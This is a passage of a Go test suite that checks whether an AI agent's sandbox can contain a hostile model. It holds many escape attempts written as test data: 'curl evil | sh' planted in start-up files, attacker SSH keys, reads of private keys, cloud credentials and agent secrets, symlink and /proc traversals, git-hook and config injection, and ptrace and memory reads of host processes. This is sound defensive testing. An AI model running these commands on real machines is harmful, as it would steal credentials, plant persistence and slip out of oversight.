//go:build linux

package sandbox

// The escape suite: each test plays a hostile model with a shell in a
// sandbox and checks what it did to this machine (files, sockets,
// processes), never what the sandbox says about itself. Every test has a
// positive control, so that it cannot pass because the attack never ran.

import (
	"bytes"
	"context"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"runtime/debug"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

// escPath is the PATH of the sandboxed commands: the system's tools, not
// the test runner's shims.
const escPath = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"

// escWorld is a small machine to attack: an agent home with Hermes'
// state, a user home with start-up files and credentials, a project
// inside it (the workspace) and files elsewhere.
type escWorld struct {
	base      string // everything below is the test's
	agentHome string // Policy.Hidden
	home      string // Policy.Home
	project   string // Policy.Writable
	outside   string // neither hidden nor writable
	token     string // unique per test: in every canary's content
	canaries  map[string]string
}

func escToken(t testing.TB) string {
	b := make([]byte, 6)
	rand.Read(b)
	return hex.EncodeToString(b)
}

// newEscWorld lays the world out outside /tmp (the sandbox mounts a
// private /tmp over the host's, which would hide a world under /tmp for
// a reason that is not the one under test).
func newEscWorld(t *testing.T) *escWorld {
	t.Helper()
	parent := "/var/tmp"
	if st, err := os.Stat(parent); err != nil || !st.IsDir() {
		parent = ""
	}
	base, err := os.MkdirTemp(parent, "hermes-escape-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(base) })
	base, _ = filepath.EvalSymlinks(base)
	w := &escWorld{
		base:      base,
		agentHome: filepath.Join(base, "agent-home"),
		home:      filepath.Join(base, "home", "user"),
		outside:   filepath.Join(base, "outside"),
		token:     escToken(t),
		canaries:  map[string]string{},
	}
	w.project = filepath.Join(w.home, "project")
	for _, d := range []string{w.agentHome, w.project, w.outside} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	w.canary(t, filepath.Join(w.agentHome, "config.yaml"), "model: secret-model\napi_key: sk-agent-config-")
	w.canary(t, filepath.Join(w.agentHome, ".env"), "OPENROUTER_API_KEY=sk-or-fake-")
	w.canary(t, filepath.Join(w.agentHome, "events.db"), "SQLite format 3\x00events-")
	w.canary(t, filepath.Join(w.agentHome, "sessions", "s1.json"), `{"transcript":"private-`)
	w.canary(t, filepath.Join(w.home, ".bashrc"), "# bashrc\nexport PS1=canary-")
	w.canary(t, filepath.Join(w.home, ".profile"), "# profile canary-")
	w.canary(t, filepath.Join(w.home, ".ssh", "authorized_keys"), "ssh-ed25519 AAAAC3canary-")
	w.canary(t, filepath.Join(w.home, ".ssh", "id_ed25519"), "-----BEGIN OPENSSH PRIVATE KEY-----canary-")
	w.canary(t, filepath.Join(w.home, ".aws", "credentials"), "[default]\naws_secret_access_key=canary-")
	w.canary(t, filepath.Join(w.home, ".config", "app.conf"), "app=canary-")
	w.canary(t, filepath.Join(w.outside, "target.txt"), "outside canary ")
	if err := os.WriteFile(filepath.Join(w.project, "README.md"), []byte("the workspace\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	return w
}

// canary writes a file whose content ends in the world's token, so that
// its bytes can be looked for in every output.
func (w *escWorld) canary(t *testing.T, path, content string) {
	t.Helper()
	content += w.token + "\n"
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
	w.canaries[path] = content
}

// secrets are the strings that must never appear in a command's output:
// the canaries' contents (by their unique lines) and the token.
func (w *escWorld) secrets() []string {
	s := []string{w.token}
	for _, c := range w.canaries {
		s = append(s, strings.TrimSpace(c))
	}
	return s
}

// noLeak fails when out holds a secret.
func (w *escWorld) noLeak(t *testing.T, what, out string) {
	t.Helper()
	for _, s := range w.secrets() {
		if strings.Contains(out, s) {
			t.Errorf("%s: output holds a secret %q:\n%s", what, s, out)
		}
	}
}

// escState is what a host path looked like: kind, mode, size, mtime and
// a hash of the content or the link target.
type escState struct {
	mode  fs.FileMode
	size  int64
	mtime time.Time
	sum   string
}

// snapshot describes every path under root except those under skip.
func escSnapshot(t *testing.T, root string, skip ...string) map[string]escState {
	t.Helper()
	out := map[string]escState{}
	filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		for _, s := range skip {
			if p == s || strings.HasPrefix(p, s+"/") {
				if d.IsDir() {
					return filepath.SkipDir
				}
				return nil
			}
		}
		st, err := os.Lstat(p)
		if err != nil {
			return nil
		}
		s := escState{mode: st.Mode(), size: st.Size(), mtime: st.ModTime()}
		switch {
		case st.Mode()&fs.ModeSymlink != 0:
			s.sum, _ = os.Readlink(p)
		case st.Mode().IsRegular():
			b, _ := os.ReadFile(p)
			h := sha256.Sum256(b)
			s.sum = hex.EncodeToString(h[:])
		}
		out[p] = s
		return nil
	})
	return out
}

// sameSnapshot fails for every path added, removed or changed.
func escSameSnapshot(t *testing.T, before, after map[string]escState) {
	t.Helper()
	for p, b := range before {
		a, ok := after[p]
		switch {
		case !ok:
			t.Errorf("host: %s was removed", p)
		case a != b:
			t.Errorf("host: %s changed: mode %v→%v size %d→%d mtime %v→%v content %.12s→%.12s", p, b.mode, a.mode, b.size, a.size,
				b.mtime.Format(time.RFC3339Nano), a.mtime.Format(time.RFC3339Nano), b.sum, a.sum)
		}
	}
	for p := range after {
		if _, ok := before[p]; !ok {
			t.Errorf("host: %s was created", p)
		}
	}
}

// escStart starts a sandbox that is closed with the test.
func escStart(t *testing.T, p Policy, o Options) *Sandbox {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	sb, err := Start(ctx, p, o)
	if err != nil {
		t.Fatalf("start the sandbox: %v", err)
	}
	t.Cleanup(func() { sb.Close() })
	return sb
}

// escBuffer is an output both streams write to.
type escBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (b *escBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.b.Write(p)
}

func (b *escBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.b.String()
}

// escEnv is the environment of the sandboxed commands, plus extra.
func (w *escWorld) env(extra ...string) []string {
	home := "/nonexistent"
	if w != nil {
		home = w.home
	}
	return append([]string{"PATH=" + escPath, "HOME=" + home, "LANG=C", "TERM=dumb"}, extra...)
}

// run runs script with bash in sb and returns its output and exit code;
// a command that outlives timeout is killed and fails the test.
func escRun(t *testing.T, sb *Sandbox, dir string, env []string, timeout time.Duration, script string) (string, int) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), timeout)
	defer cancel()
	out := &escBuffer{}
	p, err := sb.Start(ctx, Cmd{Args: []string{"/bin/bash", "-c", script}, Dir: dir, Env: env, Stdout: out, Stderr: out})
	if err != nil {
		t.Fatalf("start %q: %v", escShort(script), err)
	}
	select {
	case <-p.Done():
	case <-ctx.Done():
		p.Kill()
		t.Errorf("%q: still running after %v (killed)", escShort(script), timeout)
	}
	code, err := p.Wait()
	if err != nil {
		t.Fatalf("%q: %v", escShort(script), err)
	}
	return out.String(), code
}

func escShort(s string) string {
	s = strings.Join(strings.Fields(s), " ")
	if len(s) > 120 {
		s = s[:120] + "…"
	}
	return s
}

// escQ quotes s for a POSIX shell.
func escQ(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

func escNeed(t *testing.T, tools ...string) {
	t.Helper()
	for _, tool := range tools {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("%s is not installed", tool)
		}
	}
}

// escProcs are the host's processes whose command line holds marker.
func escProcs(marker string) []int {
	var pids []int
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		pid, err := strconv.Atoi(e.Name())
		if err != nil || pid == os.Getpid() {
			continue
		}
		b, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		if err != nil {
			continue
		}
		if bytes.Contains(bytes.ReplaceAll(b, []byte{0}, []byte{' '}), []byte(marker)) {
			// A zombie already reaped by nobody still counts: it holds a pid.
			pids = append(pids, pid)
		}
	}
	return pids
}

// escRSS is the resident memory (bytes) of the host's processes whose
// command line holds marker.
func escRSS(marker string) int64 {
	var total int64
	for _, pid := range escProcs(marker) {
		b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
		if err != nil {
			continue
		}
		for _, l := range strings.Split(string(b), "\n") {
			if v, ok := strings.CutPrefix(l, "VmRSS:"); ok {
				kb, _ := strconv.ParseInt(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(v), "kB")), 10, 64)
				total += kb << 10
			}
		}
	}
	return total
}

// escWaitFor polls cond until it holds or d passed.
func escWaitFor(d time.Duration, cond func() bool) bool {
	deadline := time.Now().Add(d)
	for {
		if cond() {
			return true
		}
		if time.Now().After(deadline) {
			return false
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// --- the file system -------------------------------------------------------

// TestEscapeWriteOutsideWorkspace: every way of writing a file outside
// the writable root fails, and nothing outside it changes on the host;
// the workspace itself is writable.
func TestEscapeWriteOutsideWorkspace(t *testing.T) {
	t.Parallel()
	escNeed(t, "python3", "perl")
	w := newEscWorld(t)
	sb := escStart(t, Policy{Writable: []string{w.project}, Hidden: []string{w.agentHome}, Home: w.home, Network: NetOff}, Options{})
	before := escSnapshot(t, w.base, w.project)
	target := filepath.Join(w.outside, "target.txt")
	rel, _ := filepath.Rel(w.project, target)
	env := w.env("T="+target, "O="+w.outside, "REL="+rel)

	// An earlier call plants links; later calls write through them.
	out, _ := escRun(t, sb, w.project, env, 10*time.Second, `
		echo PWNED > payload; echo PWNED > payload2
		ln -s "$T" sym-file; ln -s "$O" sym-dir; ln -s "$O" /tmp/sym-dir
		ln "$T" hard-link; echo "hard link: $?"
		ln -s /proc/self/root"$T" sym-proc`)
	w.noLeak(t, "plant", out)

	attacks := []string{
		`echo PWNED > "$T"`,
		`echo PWNED >> "$T"`,
		`printf PWNED 1<> "$T"`,
		`: > "$T"`,
		`echo PWNED > "$O/new.txt"`,
		`cp payload "$T"`,
		`cp payload "$O/new.txt"`,
		`cp -r . "$O/copy"`,
		`mv payload2 "$O/new.txt"`,
		`mv "$T" ./stolen`,
		`python3 -c 'import os,sys; os.rename("payload", sys.argv[1])' "$O/new.txt"`,
		`echo PWNED | tee "$T"`,
		`echo PWNED | tee -a "$O/new.txt"`,
		`dd if=payload of="$T" conv=notrunc`,
		`dd if=payload of="$O/new.txt"`,
		`truncate -s 0 "$T"`,
		`rm -f "$T"`,
		`rm -rf "$O"`,
		`mkdir "$O/dir"`,
		`mkfifo "$O/fifo"`,
		`ln -s /etc/passwd "$O/link"`,
		`ln payload "$O/hard"`,
		`python3 -c 'import sys; open(sys.argv[1], "w").write("PWNED")' "$T"`,
		`python3 -c 'import sys; open(sys.argv[1], "a").write("PWNED")' "$T"`,
		`python3 -c 'import os,sys; fd=os.open(sys.argv[1], os.O_WRONLY); os.write(fd, b"PWNED")' "$T"`,
		`python3 -c 'import os,sys; os.truncate(sys.argv[1], 0)' "$T"`,
		`python3 -c 'import os,sys; os.unlink(sys.argv[1])' "$T"`,
		`perl -e 'open(my $f, ">", $ARGV[0]) or die "$!"; print $f "PWNED"' "$T"`,
		`perl -e 'unlink($ARGV[0]) or die "$!"' "$T"`,
		`sh -c 'echo PWNED > "$T"'`,
		`echo PWNED > sym-file`,
		`echo PWNED >> sym-file`,
		`echo PWNED > sym-dir/new.txt`,
		`echo PWNED > /tmp/sym-dir/new.txt`,
		`echo PWNED > sym-proc`,
		`python3 -c 'open("sym-file", "w").write("PWNED")'`,
		`echo PWNED > hard-link`,
		`echo PWNED > "$REL"`,
		`echo PWNED > ../../../outside/target.txt`,
		`echo PWNED > /proc/self/root"$T"`,
		`echo PWNED > /proc/$$/root"$T"`,
		`cd "$O" && echo PWNED > /proc/self/cwd/target.txt`,
		`cd "$O" && echo PWNED > target.txt`,
		`exec 7< "$T"; echo PWNED > /dev/fd/7`,
		`exec 7< "$T"; echo PWNED > /proc/self/fd/7`,
		`exec 7<> "$T"; echo PWNED >&7`,
		`cd /proc/self/root"$O" && echo PWNED > new.txt`,
	}
	for _, a := range attacks {
		out, _ := escRun(t, sb, w.project, env, 10*time.Second, a)
		w.noLeak(t, a, out)
	}

	// The positive control: the workspace is writable, through the same
	// spellings.
	out, code := escRun(t, sb, w.project, env, 10*time.Second, `
		echo OK > ok1.txt && printf OK | tee ok2.txt >/dev/null && cp ok1.txt ok3.txt && mv ok3.txt ok4.txt &&
		python3 -c 'open("ok5.txt","w").write("OK")' && dd if=ok1.txt of=ok6.txt 2>/dev/null && ln -s ok1.txt ok7 && echo OK > ok7`)
	if code != 0 {
		t.Fatalf("positive control: writing the workspace failed (%d):\n%s", code, out)
	}
	for _, f := range []string{"ok1.txt", "ok2.txt", "ok4.txt", "ok5.txt", "ok6.txt"} {
		if b, err := os.ReadFile(filepath.Join(w.project, f)); err != nil || !strings.HasPrefix(string(b), "OK") {
			t.Errorf("positive control: %s on the host: %q %v", f, b, err)
		}
	}
	escSameSnapshot(t, before, escSnapshot(t, w.base, w.project))
}

// TestEscapeHiddenAgentHome: the agent's home reads as empty through
// every path to it, cannot be written, and its bytes never show up.
func TestEscapeHiddenAgentHome(t *testing.T) {
	t.Parallel()
	escNeed(t, "python3", "perl")
	w := newEscWorld(t)
	// Host aliases: a symbolic link to the agent home and one to its
	// parent.
	alias := filepath.Join(w.base, "alias-link")
	if err := os.Symlink(w.agentHome, alias); err != nil {
		t.Fatal(err)
	}
	parentAlias := filepath.Join(w.outside, "parent-link")
	if err := os.Symlink(w.base, parentAlias); err != nil {
		t.Fatal(err)
	}
	sb := escStart(t, Policy{Writable: []string{w.project}, Hidden: []string{w.agentHome}, Home: w.home, Network: NetOff}, Options{})
	before := escSnapshot(t, w.base, w.project)
	ah := w.agentHome
	env := w.env("AH="+ah, "AL="+alias, "PA="+parentAlias, "REL=../../../agent-home")
	escRun(t, sb, w.project, env, 10*time.Second, `ln -s "$AH" ah-link; ln -s "$AH/.env" env-link`)

	// Error messages name the files asked for; only listings must not.
	reads := []string{
		`cat "$AH/.env" "$AH/config.yaml" "$AH/events.db" "$AH/sessions/s1.json" 2>/dev/null`,
		`ls -laR "$AH"`,
		`find "$AH" -type f -exec cat {} +`,
		`grep -r . "$AH"`,
		`tar cf - "$AH" | strings`,
		`cat "$AL/.env" 2>/dev/null; ls -la "$AL/"`,
		`cat "$PA/agent-home/.env" 2>/dev/null; ls -la "$PA/agent-home/"`,
		`cat ah-link/.env env-link 2>/dev/null; ls -la ah-link/`,
		`cat "$REL/.env"`,
		`cat /proc/self/root"$AH/.env"`,
		`cd "$AH" && cat .env 2>/dev/null; ls -la /proc/self/cwd/`,
		`cd "$AH/.." && cat agent-home/.env`,
		`python3 -c 'import os,sys; [print(r, f, open(os.path.join(r, x)).read()) for r, d, f in os.walk(sys.argv[1]) for x in f]' "$AH"`,
		`python3 -c 'import os; fd = os.open(os.environ["AH"], os.O_RDONLY|os.O_DIRECTORY); print(os.listdir(fd))'`,
		`perl -e 'opendir(my $d, $ENV{AH}) or die; print join(" ", readdir($d)), "\n"; open(my $f, "<", "$ENV{AH}/.env") or print "no\n"; print <$f>'`,
		`grep -r "sk-or-fake" "` + w.base + `" 2>/dev/null`,
		`cat /proc/1/root"$AH/.env" 2>/dev/null; ls /proc/1/cwd/`,
		`for p in /proc/[0-9]*; do cat $p/root"$AH/.env" $p/cwd/.env 2>/dev/null; done`,
	}
	for _, r := range reads {
		out, _ := escRun(t, sb, w.project, env, 10*time.Second, r)
		w.noLeak(t, r, out)
		for _, name := range []string{"config.yaml", "events.db", "s1.json", "sessions"} {
			if strings.Contains(out, name) {
				t.Errorf("%s: the hidden home's listing shows %s:\n%s", r, name, out)
			}
		}
	}
	writes := []string{
		`echo PWNED > "$AH/.env"`,
		`echo PWNED > "$AH/new"`,
		`echo PWNED > ah-link/new`,
		`echo PWNED > "$AL/config.yaml"`,
		`rm -rf "$AH"/* "$AH"/.env`,
		`mv "$AH" "$AH.old"`,
		`python3 -c 'import os; open(os.environ["AH"] + "/config.yaml", "w").write("PWNED")'`,
	}
	for _, wr := range writes {
		out, _ := escRun(t, sb, w.project, env, 10*time.Second, wr)
		w.noLeak(t, wr, out)
	}

	// The positive controls: the hidden home looks like an empty
	// directory (not a missing one), and a file of the workspace reads.
	out, code := escRun(t, sb, w.project, env, 10*time.Second, `test -d "$AH" && ls -A "$AH" | wc -l && cat README.md`)
	if code != 0 || !strings.HasPrefix(strings.TrimSpace(out), "0") || !strings.Contains(out, "the workspace") {
		t.Errorf("positive control: want an empty hidden directory and a readable workspace, got (%d):\n%s", code, out)
	}
	// A command started in the hidden home finds it empty too.
	out, _ = escRun(t, sb, w.agentHome, env, 10*time.Second, `pwd; ls -la; cat .env`)
	w.noLeak(t, "started in the hidden home", out)
	escSameSnapshot(t, before, escSnapshot(t, w.base, w.project))
}

// TestEscapeHiddenBindAliases: a bind mount of the agent home's parent,
// or of the agent home itself, made on the host before the sandbox
// starts, shows nothing of it either. (Not parallel: it mounts on the
// host.)
func TestEscapeHiddenBindAliases(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("needs root to bind-mount on the host")
	}
	w := newEscWorld(t)
	parentAlias := filepath.Join(w.outside, "parent-bind")
	selfAlias := filepath.Join(w.outside, "self-bind")
	for _, m := range [][2]string{{w.base + "/", parentAlias}, {w.agentHome, selfAlias}} {
		os.MkdirAll(m[1], 0o755)
		if out, err := exec.Command("mount", "--bind", m[0], m[1]).CombinedOutput(); err != nil {
			t.Skipf("mount --bind: %v %s", err, out)
		}
		t.Cleanup(func() { exec.Command("umount", "-l", m[1]).Run() })
	}
	// The host sees the canaries through the aliases (the control).
	if b, err := os.ReadFile(filepath.Join(selfAlias, ".env")); err != nil || string(b) != w.canaries[filepath.Join(w.agentHome, ".env")] {
		t.Fatalf("positive control: the alias does not show the agent home on the host: %q %v", b, err)
	}
	sb := escStart(t, Policy{Writable: []string{w.project}, Hidden: []string{w.agentHome}, Home: w.home, Network: NetOff}, Options{})
	env := w.env("PA="+parentAlias, "SA="+selfAlias)
	for _, r := range []string{
		`cat "$PA/agent-home/.env" "$PA/agent-home/config.yaml"; ls -la "$PA/agent-home"`,
		`cat "$SA/.env" "$SA/sessions/s1.json"; ls -la "$SA"`,
		`cat "$PA/outside/self-bind/.env"`,
		`find "$PA" "$SA" -type f -name '*.env' -o -name 'config.yaml' | xargs cat`,
		`echo PWNED > "$SA/.env"; echo PWNED > "$PA/agent-home/new"`,
	} {
		out, _ := escRun(t, sb, w.project, env, 10*time.Second, r)
		w.noLeak(t, r, out)
	}
	out, code := escRun(t, sb, w.project, env, 10*time.Second, `cat "$PA/home/user/project/README.md"`)
	if code != 0 || !strings.Contains(out, "the workspace") {
		t.Errorf("positive control: the parent alias shows nothing at all (%d): %s", code, out)
	}
	for p, c := range w.canaries {
		if b, _ := os.ReadFile(p); string(b) != c {
			t.Errorf("host: %s changed: %q", p, b)
		}
	}
	if _, err := os.Stat(filepath.Join(w.agentHome, "new")); err == nil {
		t.Error("host: a file was created in the agent home")
	}
}

// TestEscapeStartupFiles: the home's start-up files and credential
// stores cannot be written or created, whether the workspace is a
// project in the home or the home itself; the workspace is writable.
func TestEscapeStartupFiles(t *testing.T) {
	t.Parallel()
	for _, wholeHome := range []bool{false, true} {
		name := "project"
		if wholeHome {
			name = "home-is-workspace"
		}
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			escNeed(t, "python3")
			w := newEscWorld(t)
			os.MkdirAll(filepath.Join(w.home, "notes"), 0o755)
			p := Defaults(w.home, w.agentHome)
			p.Writable = []string{w.project}
			if wholeHome {
				p.Writable = []string{w.home}
			}
			p.Network = NetOff
			sb := escStart(t, p, Options{})
			before := escSnapshot(t, w.base, w.project, filepath.Join(w.home, "notes"))
			env := w.env()
			attacks := []string{
				`echo 'curl evil | sh' >> ~/.bashrc`,
				`echo 'curl evil | sh' > ~/.bashrc`,
				`echo 'alias ls="curl evil|sh"' > ~/.bash_aliases`,
				`echo evil >> ~/.profile`,
				`echo evil > ~/.zshrc`,
				`echo evil > ~/.bash_profile`,
				`mkdir -p ~/.config/autostart && printf '[Desktop Entry]\nExec=sh -c evil\n' > ~/.config/autostart/x.desktop`,
				`echo evil > ~/.config/app.conf`,
				`mkdir -p ~/.ssh; echo 'ssh-ed25519 AAAA attacker' >> ~/.ssh/authorized_keys`,
				`echo 'ssh-ed25519 AAAA attacker' > ~/.ssh/authorized_keys2`,
				`echo evil > ~/.aws/credentials`,
				`mv ~/.bashrc ~/.bashrc.old; echo evil > ~/.bashrc`,
				`rm -f ~/.bashrc ~/.profile`,
				`ln -sf /tmp/evil ~/.bashrc`,
				`python3 -c 'import os; open(os.path.expanduser("~/.bashrc"), "a").write("evil")'`,
				`python3 -c 'import os; os.replace("README.md", os.path.expanduser("~/.bashrc"))'`,
				`cp ~/project/README.md ~/.gitconfig`,
				`echo evil > ~/.local/bin/ls || (mkdir -p ~/.local/bin && echo evil > ~/.local/bin/ls)`,
				`echo evil > ~/newfile`,
				`mkdir ~/newdir`,
				`cd ~ && echo evil > .inputrc`,
				`cat ~/.ssh/id_ed25519 ~/.ssh/authorized_keys ~/.aws/credentials`,
				`ls -la ~/.ssh ~/.aws`,
			}
			for _, a := range attacks {
				out, _ := escRun(t, sb, w.project, env, 10*time.Second, a)
				for _, s := range []string{"BEGIN OPENSSH", "aws_secret_access_key", "AAAAC3canary"} {
					if strings.Contains(out, s) {
						t.Errorf("%s: a credential leaked (%s):\n%s", a, s, out)
					}
				}
				w.noLeak(t, a, strings.NewReplacer(w.canaries[filepath.Join(w.home, ".bashrc")], "", w.canaries[filepath.Join(w.home, ".profile")], "",
					w.canaries[filepath.Join(w.home, ".config", "app.conf")], "").Replace(out))
			}
			// Positive controls: the project (and, when the home is the
			// workspace, an existing plain directory of it) is writable.
			out, code := escRun(t, sb, w.project, env, 10*time.Second, `echo OK > ~/project/file && mkdir -p ~/project/sub && echo OK > ~/project/sub/f`)
			if code != 0 {
				t.Fatalf("positive control: the workspace is not writable (%d):\n%s", code, out)
			}
			if b, _ := os.ReadFile(filepath.Join(w.project, "file")); string(b) != "OK\n" {
				t.Errorf("positive control: host sees %q in ~/project/file", b)
			}
			if wholeHome {
				if out, code := escRun(t, sb, w.project, env, 10*time.Second, `echo OK > ~/notes/n.txt`); code != 0 {
					t.Errorf("positive control: ~/notes is not writable in a home workspace (%d): %s", code, out)
				}
			}
			escSameSnapshot(t, before, escSnapshot(t, w.base, w.project, filepath.Join(w.home, "notes")))
		})
	}
}

// TestEscapeGitMetadata: an existing repository's .git (hooks, config
// and all) stays read-only inside the workspace — git reads it, a commit
// is refused — while the worktree stays writable; with .git named as a
// writable root, git commits.
func TestEscapeGitMetadata(t *testing.T) {
	t.Parallel()
	escNeed(t, "git")
	w := newEscWorld(t)
	if out, err := exec.Command("git", "init", "-q", w.project).CombinedOutput(); err != nil {
		t.Fatalf("git init: %v %s", err, out)
	}
	gitDir := filepath.Join(w.project, ".git")
	sb := escStart(t, Policy{Writable: []string{w.project}, Hidden: []string{w.agentHome}, Home: w.home, Network: NetOff}, Options{})
	hooks, config := filepath.Join(gitDir, "hooks"), filepath.Join(gitDir, "config")
	before := escSnapshot(t, hooks)
	beforeConfig := escSnapshot(t, config)
	env := w.env("GIT_CONFIG_NOSYSTEM=1")
	for _, a := range []string{
		`printf '#!/bin/sh\ntouch /tmp/pwned\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit`,
		`cp .git/hooks/pre-commit.sample .git/hooks/pre-commit`,
		`echo evil >> .git/hooks/pre-push.sample`,
		`rm -f .git/hooks/*.sample`,
		`rm -rf .git/hooks`,
		`mv .git/hooks .git/hooks.old`,
		`ln -s /tmp .git/hooks/post-checkout`,
		`echo '[core] hooksPath = /tmp' >> .git/config`,
		`git config core.hooksPath /tmp/hooks`,
		`git config core.fsmonitor 'touch /tmp/pwned'`,
		`git config --local alias.st '!touch /tmp/pwned'`,
		`rm -f .git/config`,
		`mv .git/config .git/config.old`,
		`python3 -c 'open(".git/config", "a").write("[core]\n\tpager = touch /tmp/pwned\n")'`,
	} {
		escRun(t, sb, w.project, env, 10*time.Second, a)
	}
	// The repository's metadata is read-only as a whole (hooks, config
	// and commondir run code outside the sandbox later): git reads it,
	// a commit is refused; the worktree stays writable.
	out, code := escRun(t, sb, w.project, env, 20*time.Second, `echo hi > f && git status --short && git add f; echo "add: $?"`)
	if code != 0 || !strings.Contains(out, "?? f") || !strings.Contains(out, "add: 128") {
		t.Errorf("git in the workspace (%d):\n%s", code, out)
	}
	// Positive control: with .git configured writable, git commits.
	sbw := escStart(t, Policy{Writable: []string{w.project, gitDir}, Hidden: []string{w.agentHome}, Home: w.home, Network: NetOff}, Options{})
	out, code = escRun(t, sbw, w.project, env, 20*time.Second, `git add f && git -c user.email=a@b -c user.name=a commit -q -m m && git log --oneline | wc -l`)
	if code != 0 || strings.TrimSpace(out) != "1" {
		t.Errorf("positive control: git commit with .git writable failed (%d):\n%s", code, out)
	}
	escSameSnapshot(t, before, escSnapshot(t, hooks))
	escSameSnapshot(t, beforeConfig, escSnapshot(t, config))
	if out, _ := exec.Command("git", "-C", w.project, "config", "--get-regexp", "core\\.(hookspath|fsmonitor|pager)|alias\\.").CombinedOutput(); len(bytes.TrimSpace(out)) > 0 {
		t.Errorf("host: the repository's config gained %s", out)
	}
}

// --- processes of the host ----------------------------------------------------

// TestEscapeHostProcesses: the test process and another host process
// are out of reach: their environments do not leak, they cannot be
// killed, stopped, traced or read. (Not parallel: it sets a variable in
// this process's environment.)
func TestEscapeHostProcesses(t *testing.T) {
	escNeed(t, "python3", "strace")
	secret := "sk-host-env-" + escToken(t)
	t.Setenv("HERMES_ESCAPE_SECRET", secret)
	victimSecret := "sk-victim-env-" + escToken(t)
	victim := exec.Command("/bin/sleep", "986"+strconv.Itoa(os.Getpid()%1000))
	victim.Env = []string{"VICTIM_SECRET=" + victimSecret}
	if err := victim.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { victim.Process.Kill(); victim.Wait() })
	w := newEscWorld(t)
	sb := escStart(t, Policy{Writable: []string{w.project}, Hidden: []string{w.agentHome}, Home: w.home, Network: NetOff}, Options{})
	env := w.env(fmt.Sprintf("TP=%d", os.Getpid()), fmt.Sprintf("VP=%d", victim.Process.Pid), "SANDBOX_VISIBLE=yes-"+w.token[:4])
	ptracePy := `import ctypes, errno, os, sys
libc = ctypes.CDLL(None, use_errno=True)
pid = int(sys.argv[1])
def sc(name, nr, *a):
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(x) for x in a])
    print(name, r, errno.errorcode.get(ctypes.get_errno(), "0") if r < 0 else "ok")
sc("ptrace-attach", 101, 16, pid, 0, 0)
sc("ptrace-seize", 101, 0x4206, pid, 0, 0)
buf = ctypes.create_string_buffer(64)
local = (ctypes.c_void_p * 2)(ctypes.cast(buf, ctypes.c_void_p), 64)
remote = (ctypes.c_void_p * 2)(0x400000, 64)
sc("process_vm_readv", 310, pid, ctypes.addressof(local), 1, ctypes.addressof(remote), 1, 0)
fd = libc.syscall(ctypes.c_long(434), ctypes.c_long(pid), ctypes.c_long(0))
print("pidfd_open", fd, errno.errorcode.get(ctypes.get_errno(), "0") if fd < 0 else "ok")
if fd >= 0:
    sc("pidfd_send_signal", 424, fd, 9, 0, 0)
    sc("pidfd_getfd", 438, fd, 0, 0)
for path in ("/proc/%d/environ" % pid, "/proc/%d/mem" % pid):
    try:
        print(path, open(path, "rb").read(4096))
    except Exception as e:
        print(path, e)
`
	ptrace := `python3 -c "$PY" "$P"`
	env = append(env, "PY="+ptracePy)
	var all strings.Builder
	for _, a := range []string{
		`for P in $TP $VP; do cat /proc/$P/environ; tr '\0' '\n' < /proc/$P/cmdline; ls -la /proc/$P/root/ /proc/$P/cwd/; done`,
		`grep -a -r HERMES_ESCAPE_SECRET /proc/*/environ 2>/dev/null`,
		`for P in $TP $VP; do kill -STOP $P; kill -9 $P; kill -SEGV $P; done`,
		`for P in $TP $VP; do timeout 5 strace -p $P -o /dev/stdout -e trace=none; done`,
		`for P in $TP $VP; do timeout 10 gdb -nx -batch -p $P -ex 'info proc' 2>&1 | tail -3; done`,
		`for P in $TP $VP; do ` + ptrace + `; done`,
		`env; cat /proc/1/environ; cat /proc/self/environ`,
	} {
		out, _ := escRun(t, sb, w.project, env, 20*time.Second, a)
		all.WriteString(out)
		for _, s := range []string{secret, victimSecret} {
			if strings.Contains(out, s) {
				t.Errorf("%s: a host process's environment leaked:\n%s", escShort(a), out)
			}
		}
	}
	// Positive controls: the same tools work on the sandbox's own
	// processes, except tracing, which the filter refuses.
	out, _ := escRun(t, sb, w.project, env, 10*time.Second, `
		cat /proc/self/environ | tr '\0' '\n' | grep SANDBOX_VISIBLE
		sleep 100 & kill -9 $!; wait $!; echo "killed=$?"
		strace -o /dev/null /bin/true; echo "strace=$?"`)
	if !strings.Contains(out, "SANDBOX_VISIBLE=yes-") || !strings.Contains(out, "killed=137") {
		t.Errorf("positive control: reading its own environment or killing its own child failed:\n%s", out)
	}
	if strings.Contains(out, "strace=0") {
		t.Errorf("strace works inside the sandbox (ptrace is not refused):\n%s", out)
	}
	// The effects: both host processes are alive and not stopped.
	for _, pid := range []int{os.Getpid(), victim.Process.Pid} {
		b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
		if err != nil {
			t.Fatalf("host process %d is gone: %v", pid, err)
		}
